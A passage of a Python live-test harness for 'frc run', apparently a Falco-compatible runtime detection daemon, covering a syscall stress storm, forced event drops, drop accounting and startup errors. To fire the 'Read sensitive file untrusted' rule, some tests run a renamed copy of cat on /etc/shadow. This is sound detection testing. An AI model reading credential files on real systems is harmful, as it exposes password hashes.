        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


def build_storm(tmp, name):
    """The storm program (STORM_C) built in tmp, a target file for its opens and a copy
    of cat named frcread: (storm, target, reader), or None (skip reported) without a C
    compiler."""
    if not shutil.which("cc") and not shutil.which("gcc"):
        skip(name, "no C compiler to build the storm program")
        return None
    storm = os.path.join(tmp, "storm")
    src = storm + ".c"
    with open(src, "w") as f:
        f.write(STORM_C)
    subprocess.run([shutil.which("cc") or "gcc", "-O2", "-pthread", "-o", storm, src],
                   check=True)
    target = os.path.join(tmp, "target")
    with open(target, "w") as f:
        f.write("x")
    reader = os.path.join(tmp, "frcread")
    shutil.copy("/bin/cat", reader)
    return storm, target, reader


def scenario_stress(tmp):
    built = build_storm(tmp, "stress")
    if not built:
        return
    storm, target, reader = built
    port = free_port()
    d = Daemon(tmp, [UPSTREAM], extra=[
        "-o", "webserver.enabled=true", "-o", "webserver.listen_address=127.0.0.1",
        "-o", f"webserver.listen_port={port}", "-o", "webserver.prometheus_metrics_enabled=true",
        "-o", "metrics.enabled=true"])
    try:
        if not check("stress: frc run starts", d.wait_ready(), d.stderr()[-2000:]):
            return
        # the metrics are refreshed by the daemon's statistics tick: wait for the first
        m0 = wait_for(lambda: (lambda m: m if m.get("falcosecurity_scap_n_threads_total")
                               else None)(prom(port)), 30)
        if not check("stress: /metrics answers with the state table sizes", m0, m0):
            return
        rss0 = rss_kb(d.p.pid)
        # 3 million cheap syscalls (dropped in the kernel), 200k opens + closes (traced:
        # 400k events), 2000 fork+exec (traced: clone, execve, opens, exits), 2000 threads
        # created and joined (clone, exit)
        t0 = time.time()
        act(new_id(), [storm, "3000000", "200000", "2000", target, "2000"], check_rc=True)
        storm_s = time.time() - t0
        check("stress: the daemon survived the storm", d.p.poll() is None,
              d.stderr()[-2000:])
        # still detecting after the storm; events are handled in order, so once this alert
        # is out every event of the storm has been processed (or counted as dropped)
        aid = new_id()
        act(aid, [reader, "/etc/shadow"], check_rc=True)
        check("stress: still detects after the storm",
              d.wait_alert(aid, "Read sensitive file untrusted", timeout=120),
              d.stderr()[-1500:])
        rss1 = rss_kb(d.p.pid)
        check("stress: memory stays bounded (RSS growth < 256 MiB)",
              rss0 is not None and rss1 is not None and rss1 - rss0 < 256 * 1024,
              f"rss before {rss0} kB, after {rss1} kB")
        # the thread and fd tables evict dead entries: 4000 tasks came and went, 200k
        # files were opened and closed; the statistics tick publishes the state after the
        # last storm event once the removals are counted
        removed0 = m0.get("falcosecurity_scap_n_removed_threads_total", 0)
        m1 = wait_for(lambda: (lambda m: m if m.get(
            "falcosecurity_scap_n_removed_threads_total", 0) - removed0 >= 4000 else None)(
            prom(port)), 60) or prom(port)
        drops = m1.get("falcosecurity_scap_n_drops_total", 0)
        grown_t = m1.get("falcosecurity_scap_n_threads_total", 0) - \
            m0["falcosecurity_scap_n_threads_total"]
        grown_f = m1.get("falcosecurity_scap_n_fds_total", 0) - \
            m0.get("falcosecurity_scap_n_fds_total", 0)
        info = (f"threads {m0['falcosecurity_scap_n_threads_total']} -> "
                f"{m1.get('falcosecurity_scap_n_threads_total')}, removed "
                f"{m1.get('falcosecurity_scap_n_removed_threads_total', 0) - removed0}, fds "
                f"{m0.get('falcosecurity_scap_n_fds_total')} -> "
                f"{m1.get('falcosecurity_scap_n_fds_total')}, drops {drops}")
        if drops == 0:
            check("stress: the thread table evicts the 4000 exited tasks (growth < 400)",
                  m1.get("falcosecurity_scap_n_removed_threads_total", 0) - removed0 >= 4000
                  and grown_t < 400, info)
            check("stress: the fd tables evict the 200k closed files (growth < 2000)",
                  grown_f < 2000, info)
        else:
            # a dropped exit leaves its thread until the inactive-thread purge
            skip("stress: table eviction after the storm", f"events were dropped ({info})")
        print(f"INFO stress: {info}")
    finally:
        t0 = time.time()
        rc = d.stop(signal.SIGTERM, timeout=120)
        check("stress: SIGTERM after the storm stops it promptly with status 0",
              rc == 0, f"rc={rc} after {time.time() - t0:.1f}s")
    err = d.stderr()
    line = next((l for l in err.splitlines() if l.startswith("Kernel events:")), "")
    try:
        parts = line.replace(",", "").split()
        seen, received, dropped = int(parts[2]), int(parts[7]), int(parts[9])
    except (IndexError, ValueError):
        fail("stress: kernel event accounting is reported", repr(line))
        return
    # events the kernel filter fragment discarded by design are not "seen" (like syscalls
    # outside the interest set); the storm's opens and closes reach the probe either way
    kf = next((l for l in err.splitlines() if l.startswith("Kernel filter:")), "")
    kf_dropped = int(kf.split()[6]) if kf else 0
    check("stress: every kernel event is either received or counted as dropped "
          f"(seen {seen} = received {received} + dropped {dropped}; {kf_dropped} discarded "
          "by the kernel filter)",
          seen == received + dropped and seen + kf_dropped >= 400000, line)
    if dropped:
        check("stress: drops are reported by the drop manager",
              "event drop detected" in err, err[-1500:])
    print(f"INFO stress: storm took {storm_s:.1f}s; {line}")


def scenario_drops(tmp):
    """Forced drops: the daemon is stopped (SIGSTOP) while 300k opens and closes, with the
    kernel filter off, fill its ring buffer far beyond its 8 MiB; once resumed it must
    survive, keep detecting, report exactly what was dropped (seen = received + dropped)
    and raise Falco's 'syscall event drop' internal alert. Not timing-dependent: the
    consumer does not run at all while the storm runs."""
    built = build_storm(tmp, "drops")
    if not built:
        return
    storm, target, reader = built
    # the drop actions of Falco's stock falco.yaml (without a configuration they are
    # "ignore", as in Falco)
    d = Daemon(tmp, [UPSTREAM], extra=["--no-kernel-filter",
                                       "-o", "syscall_event_drops.actions[]=log",
                                       "-o", "syscall_event_drops.actions[]=alert"])
    try:
        if not check("drops: frc run starts", d.wait_ready(), d.stderr()[-2000:]):
            return
        d.p.send_signal(signal.SIGSTOP)
        try:
            act(new_id(), [storm, "0", "300000", "0", target, "0"], check_rc=True)
        finally:
            d.p.send_signal(signal.SIGCONT)
        # the first attempts may meet a ring buffer still full of the storm's backlog (and
        # be dropped, counted): detection resumes once the daemon has caught up
        seen_again = False
        for _ in range(6):
            aid = new_id()
            act(aid, [reader, "/etc/shadow"], check_rc=True)
            if d.wait_alert(aid, "Read sensitive file untrusted", timeout=30):
                seen_again = True
                break
        check("drops: detects again once the backlog is processed", seen_again,
              d.stderr()[-1500:])
        check("drops: the daemon survived", d.p.poll() is None, d.stderr()[-1500:])
        internal = [a for a in d.alerts() if a.get("rule") == "Falco internal: syscall event drop"]
        check("drops: 'Falco internal: syscall event drop' alert with its counters",
              internal and int(internal[0].get("output_fields", {}).get("n_drops", 0)) > 0
              and "system calls dropped in last second" in internal[0].get("output", ""),
              internal[:1] or [a.get("rule") for a in d.alerts()][:10])
    finally:
        rc = d.stop(signal.SIGTERM, timeout=120)
        check("drops: SIGTERM stops it with status 0", rc == 0, f"rc={rc}")
    err = d.stderr()
    line = next((l for l in err.splitlines() if l.startswith("Kernel events:")), "")
    try:
        parts = line.replace(",", "").split()
        seen, received, dropped = int(parts[2]), int(parts[7]), int(parts[9])
    except (IndexError, ValueError):
        fail("drops: kernel event accounting is reported", repr(line))
        return
    check(f"drops: events were dropped and counted exactly (seen {seen} = received "
          f"{received} + dropped {dropped}, dropped > 0)",
          dropped > 0 and seen == received + dropped and seen >= 600000, line)
    check("drops: the drop manager reports the detection in the summary",
          "event drop detected:" in err and "event drop detected: 0 " not in err, err[-1500:])
    print(f"INFO drops: {line}")


def scenario_errors(tmp):
    d = Daemon(tmp, [UPSTREAM])
    try:
        if not check("errors: first instance starts", d.wait_ready(), d.stderr()[-2000:]):
            return
        env = dict(os.environ, FRC_LOCK_FILE=d.lock)
        r = subprocess.run([FRC, "run", "-r", UPSTREAM], env=env, capture_output=True,
                           text=True, timeout=120)
        check("errors: a second instance is refused (status 3, clear message)",
              r.returncode == 3 and "already running" in r.stderr,
              (r.returncode, r.stderr[-500:]))
    finally:
        rc = d.stop()
        check("errors: first instance stops with status 0", rc == 0, f"rc={rc}")

    def drop_root():
        os.setgid(65534)
        os.setuid(65534)
    r = subprocess.run([FRC, "run", "-r", UPSTREAM], capture_output=True, text=True,
                       timeout=120, preexec_fn=drop_root, cwd="/")
    check("errors: without root it fails with status 3 and says why",
          r.returncode == 3 and "needs root" in r.stderr, (r.returncode, r.stderr[-500:]))
    r = subprocess.run([FRC, "run", "-r", "/nonexistent/rules.yaml"], capture_output=True,
                       text=True, timeout=120, env=dict(os.environ, FRC_LOCK_FILE=d.lock))
    check("errors: a missing rules file fails with status 1", r.returncode == 1,
          (r.returncode, r.stderr[-500:]))
    r = subprocess.run([FRC, "run", "--bogus"], capture_output=True, text=True, timeout=60)
    check("errors: a bad option is a usage error (status 2)", r.returncode == 2,
          (r.returncode, r.stderr[-300:]))


def main():
    why = live_unavailable()
    if not why:
        h = subprocess.run([FRC, "run", "--help"], capture_output=True, text=True, timeout=30)
        if "not built yet" in h.stdout + h.stderr:
            why = "`frc run` is not built yet"
    if why:
        skip("live tests", why)
        return R.finish()
    only = set(sys.argv[1:])
    scen = [("ours", scenario_ours), ("errors", scenario_errors)]
    if os.path.exists(UPSTREAM):
        scen = [("upstream", scenario_upstream), ("container", scenario_container),
                ("tuning", scenario_tuning)] + scen + [("stress", scenario_stress),
                                                       ("drops", scenario_drops)]
    else:
        skip("upstream and stress scenarios", "../shared (upstream falco_rules.yaml) is absent")
    for name, fn in scen:
        if only and name not in only:
            continue
        with tempfile.TemporaryDirectory(prefix=f"frc-live-{name}-") as tmp:
            os.chmod(tmp, 0o755)
            R.guard(f"{name}: scenario crashed", fn, tmp)
    return R.finish()


if __name__ == "__main__":
    sys.exit(main())
